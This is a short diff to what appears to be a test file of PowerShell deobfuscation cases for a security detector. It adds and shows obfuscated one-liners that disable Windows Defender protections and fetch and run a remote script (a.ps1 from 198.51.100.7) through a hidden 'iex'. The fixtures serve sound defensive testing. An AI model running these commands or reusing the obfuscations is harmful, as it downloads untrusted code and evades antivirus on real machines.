@@ -17,6 +17,8 @@ deobfCases("powershell", [
       `$r="${enc.rev(CRADLE)}"; iex (-join $r[-1..-($r.Length)])`,
       // Format-operator reordering.
       `iex ("{1}{0}{2}" -f 'MpPreference -DisableBehavior','Set-','Monitoring $true')`,
+      // Doubled single quotes (PowerShell's escaped quote) inside the fragments.
+      `& ($env:ComSpec[4,15,25] -join '') ("{2}{0}{1}" -f 'ebClient).DownloadString(''https://198.51.100.7/','a.ps1'')','(New-Object Net.W')`,
       // Concatenated cmdlet with defender switch.
       `iex ('Set-Mp'+'Preference -Disable'+'ScriptScanning $true')`,
       // Junk characters replaced away.
